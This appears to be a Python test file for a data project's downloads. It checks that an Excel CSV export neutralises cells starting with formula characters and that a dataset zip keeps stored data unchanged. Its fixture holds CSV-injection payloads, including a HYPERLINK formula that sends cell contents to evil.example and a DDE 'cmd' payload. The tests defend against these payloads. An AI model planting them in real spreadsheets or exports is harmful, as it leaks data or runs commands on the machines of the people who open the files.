"""Downloads a spreadsheet opens safely, and a zip that keeps the data exactly as stored."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest

from figures.export import table_csv
from figures.load import DEFAULT_DATA_DIR
from figures.package import dataset_zip
from figures.table import Figures, build_figures

FORMULAS = {
    "notes": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "blamed_on": "+1+cmd|' /C calc'!A0",
    "relayed_by": "-2+3",
    "period_text": "@SUM(1+1)",
    "place": "\tAleppo",
    "qualifier_text": "\rAt least",
}


def excel_cells(figures: Figures, **cells: str) -> dict[str, str]:
    """The cells of the first claim as the Excel CSV download writes them."""
    table = figures.table.head(1).copy()
    for column, value in cells.items():
        table[column] = value
    text = table_csv(table, excel=True).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize("column", list(FORMULAS))
def test_a_formula_cell_is_neutralised_in_the_excel_csv(shipped: Figures, column: str) -> None:
    """A cell starting with = + - @, a tab or a carriage return opens in Excel as text."""
    assert excel_cells(shipped, **FORMULAS)[column] == "'" + FORMULAS[column]


def test_plain_cells_and_figures_are_left_alone(shipped: Figures) -> None:
    """Ordinary text, dates and figures are written as they are."""
    cells = excel_cells(shipped, notes="Read with care", place="Aleppo")
    first = shipped.table.iloc[0]
    assert (cells["notes"], cells["place"], cells["published"]) == (
        "Read with care", "Aleppo", first["published"])
    assert cells["value"] == f"{first['value']:g}"


def test_the_codebook_says_which_downloads_are_neutralised() -> None:
    """The codebook tells a reader the Excel CSV is neutralised and the zip's tables are not."""
    codebook = " ".join((DEFAULT_DATA_DIR / "README.md").read_text(encoding="utf-8").split())
    assert "starts with `=`, `+`, `-`, `@`, a tab or a carriage return" in codebook
    assert "the tables in the dataset zip are not neutralised" in codebook


def test_the_zip_keeps_formula_cells_byte_for_byte(data_copy: Path) -> None:
    """The zip's tables and its figure table keep a formula note exactly as stored."""
    claims = data_copy / "claims.csv"
    rows = list(csv.reader(io.StringIO(claims.read_text(encoding="utf-8"), newline="")))
    rows[1][rows[0].index("notes")] = FORMULAS["notes"]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    claims.write_text(buffer.getvalue(), encoding="utf-8")
    figures = build_figures(data_copy)
    assert FORMULAS["notes"] in set(figures.table["notes"])
    archive = zipfile.ZipFile(io.BytesIO(dataset_zip(data_copy, figures.table,
                                                     date(2024, 1, 2))))
    assert archive.read("claims.csv") == claims.read_bytes()
    packed = archive.read("figures.csv").decode("utf-8")
    assert next(csv.DictReader(io.StringIO(packed, newline="")))["notes"] == FORMULAS["notes"]
